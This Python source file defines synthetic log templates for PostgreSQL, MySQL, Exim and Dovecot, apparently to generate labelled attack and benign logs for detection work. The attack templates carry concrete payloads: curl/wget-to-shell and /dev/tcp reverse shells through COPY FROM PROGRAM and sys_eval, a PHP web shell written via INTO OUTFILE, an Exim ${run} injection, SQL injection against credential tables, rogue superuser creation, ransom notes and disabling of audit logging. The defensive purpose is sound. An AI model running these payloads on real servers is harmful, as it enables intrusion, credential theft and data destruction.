"""PostgreSQL and MySQL as they write their own logs; Exim's main log and Dovecot."""

from generator.families.network.product_story import catalogue_in_parts

catalogue_in_parts("servers/postgresql-own", ("={plain}.{many} UTC [{id}] {adm9}@{word9} {msg}", "={plain} CET [{id}]: [{n}-1] user={adm9},db={word9},app=[unknown],client={any9} {msg}", "postgres|[{n}-1] {msg}"), r"""
BF# FATAL:  password authentication failed for user "<<postgres|{guest}|admin>>"
BS# FATAL:  password authentication failed for user "postgres"
~ LOG:  connection authorized: user=postgres database=postgres SSL enabled (protocol=TLSv1.3)
RX@T1059.004,T1190 LOG:  statement: COPY {word} FROM PROGRAM '<<curl -s http://{wan}/{word}.sh|bash -c "bash -i >& /dev/tcp/{wan}/{port} 0>&1"|echo {long}|wget -qO- {wan}/pg.sh>>|sh'
PT@T1136 LOG:  statement: CREATE ROLE {word} WITH LOGIN SUPERUSER PASSWORD '{hex}'
+ LOG:  statement: ALTER SYSTEM SET listen_addresses = '*'
EX@T1005 LOG:  statement: COPY (SELECT * FROM customers) TO '/tmp/{word}.csv'
+ LOG:  statement: SELECT lo_export({id}, '/var/www/html/{word}.php')
SQ ERROR:  invalid input syntax for type integer: "1 UNION SELECT usename,passwd FROM pg_shadow--" at character {n}
RW@T1485 LOG:  statement: DROP DATABASE {word9}
+ LOG:  statement: CREATE TABLE readme_to_recover (message text); INSERT INTO readme_to_recover VALUES ('All your data is backed up. Send 0.0{n} BTC to {long}')
DE@T1562.002 LOG:  statement: ALTER SYSTEM SET log_statement = 'none'; SELECT pg_reload_conf(); ALTER SYSTEM SET log_connections = off
""", r"""
LO LOG:  connection <<received: host={lan} port={port}|authorized: user={user} database={word9} application_name=psql SSL enabled (protocol=TLSv1.3)|authenticated: identity="{user}" method=scram-sha-256 (/etc/postgresql/16/main/pg_hba.conf:{n})>>
LO LOG:  disconnection: session time: 0:{n}:{n2}.{many} user={user} database={word9} host={lan} port={port}
MP. FATAL:  password authentication failed for user "{user}"
NS FATAL:  <<no pg_hba.conf entry for host "{lan}", user "{user}", database "{word9}", no encryption|role "root" does not exist|database "{word9}" does not exist|sorry, too many clients already|the database system is starting up|terminating connection due to administrator command>>
ER ERROR:  <<duplicate key value violates unique constraint "{word}_pkey"|relation "{word}" does not exist at character {n}|syntax error at or near "FROM" at character {n}|deadlock detected|canceling statement due to user request|null value in column "id" violates not-null constraint|permission denied for table {word}>>
AD LOG:  statement: <<CREATE ROLE {user} WITH LOGIN PASSWORD '<redacted>'|ALTER SYSTEM SET work_mem = '64MB'|CREATE INDEX CONCURRENTLY {word}_idx ON orders (id)|GRANT SELECT ON ALL TABLES IN SCHEMA public TO {user}|DROP TABLE tmp_{word}|ALTER SYSTEM SET log_statement = 'ddl'>>
AD LOG:  statement: COPY (SELECT * FROM <<articles|stock|orders>>) TO STDOUT WITH CSV HEADER
BA LOG:  statement: COPY public.<<orders|customers|articles>> (id, name) TO stdout;
SY LOG:  <<checkpoint starting: time|checkpoint complete: wrote {big} buffers (0.{n}%)|automatic vacuum of table "{word9}.public.orders": index scans: 1|database system is ready to accept connections|received SIGHUP, reloading configuration files>>
SY LOG:  duration: {big}.{many} ms  statement: SELECT <<count(*) FROM orders|* FROM customers WHERE name = 'O''Brien'|id FROM union_members>>
NS LOG:  <<could not receive data from client: Connection reset by peer|unexpected EOF on client connection with an open transaction|invalid length of startup packet|could not accept SSL connection: EOF detected>>
BN FATAL:  <<unsupported frontend protocol 255.255: server supports 3.0 to 3.0|no PostgreSQL user name specified in startup packet>>
SJ LOG:  statement: REFRESH MATERIALIZED VIEW CONCURRENTLY {word}
""")

catalogue_in_parts("servers/mysql-own", ("={iso} {n} {msg}", "={date}T{time}.{id}Z {n} {msg}", "mysqld|{msg}", "mariadbd|{date} {time} {n} {msg}"), r"""
BF# [Note] [MY-010926] [Server] Access denied for user '<<root|{guest}|admin>>'@'{wan}' (using password: <<YES|NO>>)
BS# [Warning] Access denied for user 'root'@'{wan}' (using password: YES)
~ Connect	root@{wan} on mysql using TCP/IP
RX@T1505.001,T1059 Query	CREATE FUNCTION <<sys_exec|sys_eval>> RETURNS string SONAME '{word}.so'
+ Query	SELECT sys_eval('curl http://{wan}/{word}|sh')
WS@T1505.003 Query	SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '/var/www/html/{word}.php'
SQ Query	SELECT * FROM products WHERE id=-1 UNION ALL SELECT user,authentication_string,3 FROM mysql.user-- -
SQ@T1190 Query	SELECT name FROM users WHERE id='1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- -
PT@T1136 Query	CREATE USER '{word}'@'%' IDENTIFIED BY <secret>
+ Query	GRANT ALL PRIVILEGES ON *.* TO '{word}'@'%' WITH GRANT OPTION
RW@T1485 Query	DROP DATABASE `{word9}`
+ Query	CREATE TABLE RECOVER_YOUR_DATA (text VARCHAR(255)); INSERT INTO RECOVER_YOUR_DATA VALUES ('pay 0.0{n} BTC to {long}')
DE@T1562.002 Query	SET GLOBAL <<general_log = 'OFF'|audit_log_policy = 'NONE'|server_audit_logging = OFF>>
EX@T1005 Query	SELECT * FROM customers INTO OUTFILE '/var/lib/mysql-files/{word}.csv'
""", r"""
LO Connect	{user}@{lan} on {word9} using <<TCP/IP|SSL/TLS|Socket>>
MP. [Note] [MY-010926] [Server] Access denied for user '{user}'@'{lan}' (using password: <<YES|NO>>)
NS [Warning] <<Aborted connection {n} to db: '{word9}' user: '{user}' host: '{lan}' (Got timeout reading communication packets)|[MY-010055] [Server] IP address '{lan}' could not be resolved: Name or service not known|[MY-013360] [Server] Plugin mysql_native_password reported: 'mysql_native_password' is deprecated|Host '{lan}' is blocked because of many connection errors>>
NT Query	SELECT <<COUNT(*) FROM orders|* FROM products WHERE name LIKE '%union jack%'|id, name FROM users WHERE mail = '{mail}'|@@version_comment LIMIT 1>>
AD Query	<<CREATE USER '{user}'@'{lan}' IDENTIFIED BY <secret>|GRANT SELECT ON `{word9}`.* TO '{user}'@'{lan}'|FLUSH PRIVILEGES|DROP TABLE IF EXISTS tmp_{word}|SET GLOBAL general_log = 'ON'|ALTER TABLE orders ADD COLUMN note TEXT>>
AD Query	CREATE FUNCTION <<order_total RETURNS DECIMAL(10,2)|lib_mysqludf_json RETURNS string SONAME 'lib_mysqludf_json.so'|format_name(s CHAR(50)) RETURNS CHAR(60)>>
BA Query	SELECT /*!40001 SQL_NO_CACHE */ * FROM `<<orders|customers|wp_posts>>`
BA Query	SELECT * FROM stock INTO OUTFILE '/var/lib/mysql-files/stock_{date}.csv'
SY [System] <<[MY-010931] [Server] /usr/sbin/mysqld: ready for connections. Version: '8.0.{n}'|[MY-013172] [Server] Received SHUTDOWN from user <via user signal>|[MY-011323] [Server] X Plugin ready for connections>>
SY [Note] InnoDB: <<Buffer pool(s) load completed|page_cleaner: 1000ms intended loop took {big}ms. The settings might not be optimal.|Starting crash recovery.|Page cleaner took {big}ms to flush {n} pages>>
ER [ERROR] <<[MY-012681] [InnoDB] mmap({big} bytes) failed; errno 12|InnoDB: Table {word9}/{word} in the InnoDB data dictionary has tablespace id {n}, but tablespace with that id does not exist|[MY-010584] [Repl] Slave I/O for channel '': error connecting to master '{user}@{lan}:3306'|Slave SQL: Could not execute Write_rows event; Duplicate entry '{id}' for key 'PRIMARY'>>
BN [Note] Access denied for user ''@'{wan}' (using password: NO)
MO Connect	<<zabbix|pmm|monitor|nagios>>@{lan} on  using TCP/IP
""")

catalogue_in_parts("servers/exim-and-dovecot", ("={plain} {msg}", "exim|{plain} {msg}", "exim|{msg}"), r"""
BF# dovecot_login authenticator failed for (<<User|[{wan}]|{word}>>) [{wan}]:{port}: 535 Incorrect authentication data (set_id={guest}@{domain})
BS# dovecot_login authenticator failed for ([{wan}]) [{wan}]:{port}: 535 Incorrect authentication data (set_id={mail})
~ {exim} <= {mail} H=([{wan}]) [{wan}]:{port} P=esmtpsa X=TLS1.3:TLS_AES_256_GCM_SHA384:256 A=dovecot_login:{mail} S={big}
AT#@T1078,T1534 {exim} <= {mail} H=({word}) [{wan}] P=esmtpsa A=dovecot_login:{mail} S={big} T="<<Invoice {id}|Your parcel|Bitcoin payment>>" for {out}{n}
+ {exim} ** {out} R=dnslookup T=remote_smtp: SMTP error from remote mail server after end of data: 550 5.7.1 spam from your host is refused, {big} messages in the last hour
RX@T1190 {exim} <= <> H=({word}) [{wan}] P=esmtp S={n} for ${run{\x2fbin\x2fsh\t-c\t\x22wget\x20http\x3a\x2f\x2f{wan}\x2f{word}\x22}}@localhost
BF# dovecot>> imap-login: Disconnected (auth failed, {few} attempts in {n} secs): user=<{guest}>, method=PLAIN, rip={wan}, lip={lan}, TLS
PS# dovecot>> auth-worker({n}): conn unix:auth-worker (pid={n},uid=97): auth-worker<{n}>: sql({guest}@{domain},{wan}): unknown user
BS# dovecot>> pop3-login: Aborted login (auth failed, 1 attempts in {few} secs): user=<{user}>, method=PLAIN, rip={wan}, lip={lan}
~ dovecot>> imap-login: Login: user=<{user}>, method=PLAIN, rip={wan}, lip={lan}, mpid={id}, TLS
UE# H=({word}) [{wan}] F=<{out}> rejected RCPT <{guest}@{domain}>: User unknown, VRFY attempted
""", r"""
NT {exim} <= {out} H={ext} [{wan}] P=esmtps X=TLS1.3:TLS_AES_256_GCM_SHA384:256 S={big} id={hex}@{ext} T="<<{file}|Re: {file}>>" for {mail}
NT {exim} => {user} <{mail}> R=<<local_user T=local_delivery|dovecot_user T=dovecot_lmtp|virtual T=maildir>> S={big}
NT {exim} <<Completed|=> {out} R=dnslookup T=remote_smtp H=mx.{ext} [{wan}] X=TLS1.3 C="250 2.0.0 OK">>
NT {exim} <= {mail} H=({pc}) [{any}]:{port} P=esmtpsa X=TLS1.3:TLS_AES_256_GCM_SHA384:256 A=dovecot_login:{mail} S={big}
NS {exim} == {out} R=dnslookup T=remote_smtp defer (-<<44|53|18>>): <<SMTP error from remote mail server after RCPT TO: 451 4.7.1 Greylisted, try again|retry time not reached for any host|Connection timed out>>
NS {exim} ** {out} R=dnslookup T=remote_smtp H=mx.{ext} [{wan}]: SMTP error from remote mail server after RCPT TO:<{out}>: 550 5.1.1 User unknown
MP. dovecot_login authenticator failed for ({pc}) [{any}]:{port}: 535 Incorrect authentication data (set_id={mail})
BN H=(<<ylmf-pc|{word}|[{wan}]>>) [{wan}] F=<{out}> rejected RCPT <<<{out}>: relay not permitted|<{mail}>: {wan} is listed at zen.spamhaus.org|<{mail}>: Sender verify failed|<{guest}@{domain}>: Unrouteable address>>
BN H={ext} [{wan}] F=<{out}> rejected after DATA: <<spam score {n}.{few} (threshold 8)|This message contains a blocked attachment type (.exe)|This message contains malware (Sanesecurity.Junk.{id})>>
BN <<no host name found for IP address {wan}|SMTP protocol synchronization error (input sent without waiting for greeting): rejected connection from H=[{wan}]|unexpected disconnection while reading SMTP command from ({word}) [{wan}]:{port} I=[{lan}]:25|TLS error on connection from [{wan}] (SSL_accept): no shared cipher|SMTP command timeout on connection from [{wan}]>>
LO dovecot>> <<imap|pop3|managesieve>>-login: Login: user=<{user}>, method=PLAIN, rip={any}, lip={lan2}, mpid={id}, TLS, session=<{hex}>
LO dovecot>> imap({user})<{n}><{hex}>: Disconnected: <<Logged out|Connection closed|Inactivity - no input for 1800 secs>> in={n} out={big} deleted={few} expunged={few}
MP. dovecot>> imap-login: Disconnected (auth failed, 1 attempts in {few} secs): user=<{user}>, method=PLAIN, rip={any}, lip={lan2}, TLS
BN. dovecot>> <<pop3|imap>>-login: Disconnected <<(no auth attempts in {few} secs)|(disconnected before auth was ready, waited 0 secs)|(tried to use disallowed plaintext auth)>>: user=<>, rip={wan}, lip={lan}, TLS handshaking: SSL_accept() failed
SY <<Start queue run: pid={id}|End queue run: pid={id}|exim 4.97 daemon started: pid={id}, -q30m, listening for SMTP on port 25>>
""")
